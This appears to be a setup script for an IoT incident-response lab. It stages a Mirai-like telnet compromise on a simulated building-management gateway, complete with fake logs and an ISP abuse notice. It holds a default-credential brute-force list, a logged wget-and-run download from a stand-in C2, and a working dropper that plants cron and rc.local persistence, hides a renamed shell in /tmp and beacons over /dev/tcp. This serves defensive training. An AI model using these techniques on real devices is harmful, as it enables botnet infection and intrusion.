#!/bin/bash
# iot-botnet-telnet — setup. Runs as sandbox root before the learner attaches (labs/README.md,
# "Runtime contract"). The files/ overlay is already in place under /srv/gateway and /home/learner.
#
# Builds one per-session incident on the building-management gateway bms-gw01:
#   - three days of gateway logs with internet telnet noise, then a burst of failed telnet logins
#     from ATTACKER_IP and a success with a factory-default account (LOGIN_USER/LOGIN_PASS);
#   - flow records: the bot's beacon to C2_ADDR:23 every minute and its telnet scanning;
#   - a dropper (DROPPER) hooked into the gateway's crontab and rc.local;
#   - the running bot: a renamed copy of bash (BOT_NAME) run from /tmp, reading its script from a
#     file, both deleted once it runs (Mirai ran from memory and deleted its binary).
# Every address is from the documentation ranges (RFC 5737), never a real host.
# Per-session variables go to fd 3 as NAME=value lines; nothing here may write them elsewhere.
set -euo pipefail
{ : >&3; } 2>/dev/null || { echo "setup.sh: fd 3 is not open; run by hand as: bash setup.sh 3>vars.txt" >&2; exit 2; }

GW=/srv/gateway
chmod 1777 /tmp # the dropper, like any local user, stages in /tmp
LUID=${LAB_LEARNER_UID:-1000}
LGID=${LAB_LEARNER_GID:-1000}
LHOME=${LAB_LEARNER_HOME:-/home/learner}
RANDOM=${LAB_SEED:-$(( $$ ^ $(date +%s) ))}
export TZ=UTC
T0=$(date +%s)
JST=32400

var() { printf '%s=%s\n' "$1" "$2" >&3; }

# Gateway processes belong to the gateway account, which is the learner: the learner administers
# the gateway without sudo. If this sandbox cannot switch uid, run them as ourselves.
if setpriv --reuid="$LUID" --regid="$LGID" --clear-groups true 2>/dev/null; then
  as_learner() { setpriv --reuid="$LUID" --regid="$LGID" --clear-groups env -i PATH=/usr/bin:/bin HOME="$LHOME" LANG=C.UTF-8 "$@"; }
else
  echo "setup: cannot switch to uid $LUID; gateway processes run as uid $(id -u)" >&2
  as_learner() { env -i PATH=/usr/bin:/bin HOME="$LHOME" LANG=C.UTF-8 "$@"; }
fi
# Background processes must not hold fd 3 or the captured stdout/stderr, or the runner never sees setup end.
spawn() { ( exec </dev/null >/dev/null 2>&1 3>&-; "$@" ) & }

ts() { printf -v R '%(%Y-%m-%dT%H:%M:%S)T+09:00' $(( $1 + JST )); } # → R, in JST like the gateway
# Random helpers set R instead of printing: a $(…) subshell reseeds $RANDOM, which would make
# LAB_SEED runs irreproducible.
pick() { local a=("$@"); R=${a[RANDOM % ${#a[@]}]}; }
# A documentation-range address (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), never the
# gateway's own /29 (203.0.113.8–15) nor any address given as an argument.
doc_ip() {
  local prefixes=(192.0.2 198.51.100 203.0.113) p h ip
  while :; do
    p=${prefixes[RANDOM % 3]} h=$(( RANDOM % 250 + 3 )) ip=$p.$h
    [ "$p" = 203.0.113 ] && [ "$h" -ge 8 ] && [ "$h" -le 15 ] && continue
    case " $* " in *" $ip "*) continue ;; esac
    R=$ip; return
  done
}
randname() { # Mirai-style random process name: a letter, then 7–11 letters/digits
  local c=abcdefghijklmnopqrstuvwxyz0123456789 s i n=$(( 7 + RANDOM % 5 ))
  s=${c:RANDOM % 26:1}
  for (( i = 0; i < n; i++ )); do s+=${c:RANDOM % 36:1}; done
  R=$s
}
EP='32768 + RANDOM % 28000' # ephemeral source port: $((EP))
TELNET=(23 23 23 2323)       # the bot and the scanners favour 23 over 2323: ${TELNET[RANDOM % 4]}

WAN=203.0.113.10
doc_ip; ATTACKER_IP=$R
doc_ip "$ATTACKER_IP"; C2_ADDR=$R
randname; BOT_NAME=$R
randname; DROPPER=$GW/var/.cache/.${R:0:6}
pick admin support user; LOGIN_USER=$R
LOGIN_PASS=$LOGIN_USER # the factory defaults in etc/users are user = password

# ---------------------------------------------------------------- timeline (epoch seconds)
B=$(( T0 - 3000 - RANDOM % 900 ))          # brute force starts 50–65 minutes ago
START=$(( T0 - 3 * 86400 ))                # logs begin three days ago
EV=$(mktemp)
trap 'rm -f "$EV"' EXIT
msg() { printf '%d\tM\t%s\n' "$1" "$2" >>"$EV"; }   # /srv/gateway/log/messages
flow() { printf '%d\tF\t%s\n' "$1" "$2" >>"$EV"; }  # /srv/gateway/log/flow.log
pidc=700
nextpid() { pidc=$(( pidc + 1 + RANDOM % 40 )); }

# Normal life: BACnet polling, NTP, the facilities PC using the web UI, log rotation.
for (( t = START; t < T0; t += 300 )); do
  flow $(( t + RANDOM % 20 )) "dir=out proto=udp src=10.20.0.5:47808 dst=10.20.0.$(( 21 + RANDOM % 14 )):47808 state=- bytes_out=$(( 400 + RANDOM % 300 )) bytes_in=$(( 900 + RANDOM % 800 )) dur=1s"
done
for (( t = START + 1800; t < T0; t += 3600 )); do
  flow "$t" "dir=out proto=udp src=10.20.0.5:123 dst=10.20.0.1:123 state=- bytes_out=76 bytes_in=76 dur=0s"
  (( RANDOM % 4 == 0 )) && msg "$t" "bms-gw01 bacnetd[612]: BACnet/IP: 14 of 14 controllers online"
done
for (( d = 0; d < 3; d++ )); do
  day=$(( START - START % 86400 + d * 86400 - JST ))
  for h in 9 13 16; do
    t=$(( day + h * 3600 + RANDOM % 1800 ))
    (( t < START || t > B )) && continue
    msg "$t" "bms-gw01 httpd[640]: session opened for 'admin' from 10.20.0.50 (https, web UI)"
    flow "$t" "dir=in proto=tcp src=10.20.0.50:$((EP)) dst=10.20.0.5:443 state=ESTABLISHED bytes_out=$(( 20000 + RANDOM )) bytes_in=$(( 3000 + RANDOM % 2000 )) dur=$(( 60 + RANDOM % 600 ))s"
  done
done
for (( t = START; t < T0; t += 600 )); do (( RANDOM % 6 == 0 )) && msg "$t" "bms-gw01 gw-cron[588]: run /srv/gateway/bin/gw-logrotate"; done

# Internet background noise: scanners trying a root password or two on the exposed telnet port.
noise_ips=()
for (( i = 0; i < 14; i++ )); do
  doc_ip "$ATTACKER_IP" "$C2_ADDR" "${noise_ips[@]}"; ip=$R
  noise_ips+=("$ip")
  t=$(( START + RANDOM * 7 % (T0 - START - 600) ))
  port=${TELNET[RANDOM % 4]}
  tries_n=$(( 1 + RANDOM % 3 ))
  for (( k = 0; k < tries_n; k++ )); do
    t=$(( t + 2 + RANDOM % 9 )); nextpid; p=$pidc
    msg "$t" "bms-gw01 telnetd[$p]: connect from $ip:$((EP)) to port $port"
    msg $(( t + 1 )) "bms-gw01 login[$p]: FAILED LOGIN for 'root' from $ip (bad password)"
    flow "$t" "dir=in proto=tcp src=$ip:$((EP)) dst=$WAN:$port state=CLOSED bytes_out=180 bytes_in=95 dur=2s"
  done
done

# The attack: one credential pair per connection from a Mirai-like dictionary, then a hit.
tries=(root:xc3511 root:vizxv root:888888 root:default root:123456 root:54321 root:12345 root:pass
  root:root root:xmhdipc root:juantech root:hi3518 root:jvbzd root:anko root:zlxx. root:7ujMko0vizxv
  root:7ujMko0admin root:system root:ikwb root:dreambox root:realtek root:00000000 guest:guest
  guest:12345 ubnt:ubnt tech:tech supervisor:supervisor service:service 888888:888888
  666666:666666 admin:password admin:1234 admin:12345 admin:smcadmin admin:1111 admin:54321)
t=$B
n=$(( 24 + RANDOM % 10 ))
for (( i = 0; i < n; i++ )); do
  pair=${tries[RANDOM % ${#tries[@]}]}; u=${pair%%:*}; nextpid; p=$pidc
  [ "$u" = "$LOGIN_USER" ] && u=root # an attempt on the account that works would have succeeded
  port=${TELNET[RANDOM % 4]}
  t=$(( t + 3 + RANDOM % 8 ))
  msg "$t" "bms-gw01 telnetd[$p]: connect from $ATTACKER_IP:$((EP)) to port $port"
  case $u in
    admin|support|user) msg $(( t + 1 )) "bms-gw01 login[$p]: FAILED LOGIN for '$u' from $ATTACKER_IP (bad password)" ;;
    *) msg $(( t + 1 )) "bms-gw01 login[$p]: FAILED LOGIN for '$u' from $ATTACKER_IP (unknown user)" ;;
  esac
  flow "$t" "dir=in proto=tcp src=$ATTACKER_IP:$((EP)) dst=$WAN:$port state=CLOSED bytes_out=210 bytes_in=120 dur=2s"
done
t=$(( t + 5 + RANDOM % 6 )); nextpid; p=$pidc; LOGIN_AT=$t
role=$(awk -F: -v u="$LOGIN_USER" '$1 == u { print $3 }' "$GW/etc/users")
msg "$t" "bms-gw01 telnetd[$p]: connect from $ATTACKER_IP:$((EP)) to port 23"
msg $(( t + 1 )) "bms-gw01 login[$p]: LOGIN '$LOGIN_USER' (role $role) from $ATTACKER_IP on pts/0"
flow "$t" "dir=in proto=tcp src=$ATTACKER_IP:$((EP)) dst=$WAN:23 state=CLOSED bytes_out=$(( 3000 + RANDOM % 900 )) bytes_in=1460 dur=94s"
nextpid; sh=$pidc
c=$(( t + 3 ))
for cmd in enable system shell sh "/bin/busybox KNSHU" "cd $GW/var/.cache" \
  "wget http://$C2_ADDR/bins/upd.sh -O ${DROPPER##*/}" "chmod 755 ${DROPPER##*/}" "./${DROPPER##*/}" "rm -f ${DROPPER##*/}.log" exit; do
  c=$(( c + 2 + RANDOM % 5 ))
  msg "$c" "bms-gw01 gwsh[$sh]: $LOGIN_USER: $cmd"
done
msg $(( c + 1 )) "bms-gw01 login[$p]: session closed for '$LOGIN_USER' from $ATTACKER_IP"
flow $(( c - 14 )) "dir=out proto=tcp src=$WAN:$((EP)) dst=$C2_ADDR:80 state=CLOSED bytes_out=142 bytes_in=$(( 2600 + RANDOM % 400 )) dur=1s"

# The bot: a beacon to C2 every minute, and telnet scanning of random addresses.
BOT_START=$(( c + 4 ))
for (( t = BOT_START; t < T0; t += 60 )); do
  flow "$t" "dir=out proto=tcp src=$WAN:$((EP)) dst=$C2_ADDR:23 state=ESTABLISHED bytes_out=$(( 40 + RANDOM % 30 )) bytes_in=$(( 20 + RANDOM % 10 )) dur=60s"
  scans=$(( 4 + RANDOM % 4 ))
  for (( k = 0; k < scans; k++ )); do
    doc_ip "$C2_ADDR" "$ATTACKER_IP" "$WAN"
    flow $(( t + 1 + RANDOM % 58 )) "dir=out proto=tcp src=$WAN:$((EP)) dst=$R:${TELNET[RANDOM % 4]} state=SYN_SENT bytes_out=60 bytes_in=0 dur=0s"
  done
done
msg $(( T0 - 900 )) "bms-gw01 bacnetd[612]: BACnet/IP: poll cycle overran (2.8 s > 1.0 s); CPU busy"

mkdir -p "$GW/log" "$GW/run" "$GW/var/cache" "$GW/var/.cache" "$GW/var/backup"
sort -n -k1,1 "$EV" | while IFS=$'\t' read -r t kind line; do
  if [ "$kind" = M ]; then ts "$t"; printf '%s %s\n' "$R" "$line"; fi
done >"$GW/log/messages"
sort -n -k1,1 "$EV" | while IFS=$'\t' read -r t kind line; do
  if [ "$kind" = F ]; then ts "$t"; printf '%s bms-gw01 gw-flowlog: %s\n' "$R" "$line"; fi
done >"$GW/log/flow.log"

# ---------------------------------------------------------------- the ISP's notice (the detection)
mkdir -p "$LHOME/inbox"
ts $(( T0 - 600 )); NOTICE_AT=$R
ts "$BOT_START"; SCAN_SINCE=$R
cat >"$LHOME/inbox/isp-notice.txt" <<EOF
From: abuse@isp.example
To: it-security@city.kita-minato.example
Date: $NOTICE_AT
Subject: [NOTICE] Telnet scanning from your line 203.0.113.10 / 貴回線からの Telnet スキャン

(English below)
北湊市 情報政策課 ご担当者様

NICTER の観測および当社の監視により、貴市の契約回線に割り当てた IP アドレス 203.0.113.10 から、
$SCAN_SINCE 頃より TCP 23 番・2323 番ポート宛ての通信（IoT 機器を狙うスキャン）が
継続して発生していることを確認しました。マルウェアに感染した IoT 機器が存在する可能性があります。
機器を特定のうえ、対処結果をご連絡ください。

To the Information Policy Division, Kita-Minato City:

NICTER observations and our own monitoring show continuous connections to TCP ports 23 and 2323
(scanning aimed at IoT devices) from 203.0.113.10, an address on your contract line, since about
$SCAN_SINCE. An IoT device on your network may be infected with malware. Please identify
the device, respond, and tell us what you found.

-- ISP Abuse Desk (fictional)
EOF

# ---------------------------------------------------------------- the dropper and persistence
BOT_SCRIPT=$(cat <<EOF
C2=$C2_ADDR
cd / || exit 0
trap '' HUP PIPE
f=\$(mktemp -u /tmp/.XXXXXXXX)
mkfifo -m 600 "\$f" && exec 9<>"\$f" && rm -f "\$f"
while :; do
  # Beacon to the C2 on 23/tcp and hold the connection (with a lab network the fake C2 answers;
  # without one the connect fails at once and the beacon is retried next minute).
  { exec 5<>"/dev/tcp/\$C2/23"; } 2>/dev/null && printf 'BOT %s\n' "\$(cat /proc/sys/kernel/hostname 2>/dev/null)" >&5 2>/dev/null
  read -r -t 60 -u 9 _
  exec 5>&- 2>/dev/null
done
EOF
)
BOT_SHA256=$(printf '%s\n' "$BOT_SCRIPT" | sha256sum | cut -d' ' -f1)

cat >"$DROPPER" <<EOF
#!/bin/bash
N=$BOT_NAME
S=$DROPPER
for p in /proc/[0-9]*; do [ "\$(cat "\$p/comm" 2>/dev/null)" = "\$N" ] && exit 0; done
grep -qF "\$S" $GW/etc/crontab 2>/dev/null || echo "* * * * * \$S >/dev/null 2>&1" >>$GW/etc/crontab
grep -qF "\$S" $GW/etc/rc.local 2>/dev/null || echo "\$S >/dev/null 2>&1 &" >>$GW/etc/rc.local
D=\$(mktemp -d /tmp/.XXXXXXXX) || exit 0
cp /usr/bin/bash "\$D/\$N" && chmod 700 "\$D/\$N"
cat >"\$D/.s" <<'__BOT__'
$BOT_SCRIPT
__BOT__
cd /
setsid bash -c 'exec -a "\$0" "\$1" <"\$2" >/dev/null 2>&1' "\$N" "\$D/\$N" "\$D/.s" </dev/null >/dev/null 2>&1 &
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
  for p in /proc/[0-9]*; do [ "\$(cat "\$p/comm" 2>/dev/null)" = "\$N" ] && break 2; done
  sleep 0.1
done
sleep 0.2
rm -rf "\$D"
EOF
chmod 755 "$DROPPER"

# ---------------------------------------------------------------- hand the gateway to its account, start it
chmod 600 "$GW/etc/users"
chown -R "$LUID:$LGID" "$GW" "$LHOME" 2>/dev/null || echo "setup: chown to $LUID:$LGID not possible here" >&2
for s in cron bacnetd httpd telnetd; do as_learner "$GW/bin/gwctl" start "$s" </dev/null >&2 3>&-; done
# The dropper installs its own crontab and rc.local lines, as it did when the attacker ran it.
spawn as_learner setsid "$DROPPER"
# Wait for the dropper to finish: the bot running, then its staging directory in /tmp gone.
bot_running() { local p; for p in /proc/[0-9]*; do [ "$(cat "$p/comm" 2>/dev/null)" = "$BOT_NAME" ] && return 0; done; return 1; }
for _ in $(seq 1 100); do bot_running && break; sleep 0.1; done
for _ in $(seq 1 60); do compgen -G '/tmp/.????????/.s' >/dev/null || break; sleep 0.1; done
grep -qF "$DROPPER" "$GW/etc/crontab" || { echo "setup: dropper did not install persistence" >&2; exit 1; }
bot_running || { echo "setup: bot did not start" >&2; exit 1; }

var ATTACKER_IP "$ATTACKER_IP"
var C2_ADDR "$C2_ADDR"
var BOT_NAME "$BOT_NAME"
var DROPPER "$DROPPER"
var LOGIN_USER "$LOGIN_USER"
var LOGIN_PASS "$LOGIN_PASS"
var BOT_SHA256 "$BOT_SHA256"
ts "$LOGIN_AT"; echo "setup: ready (attacker login at $R)" >&2
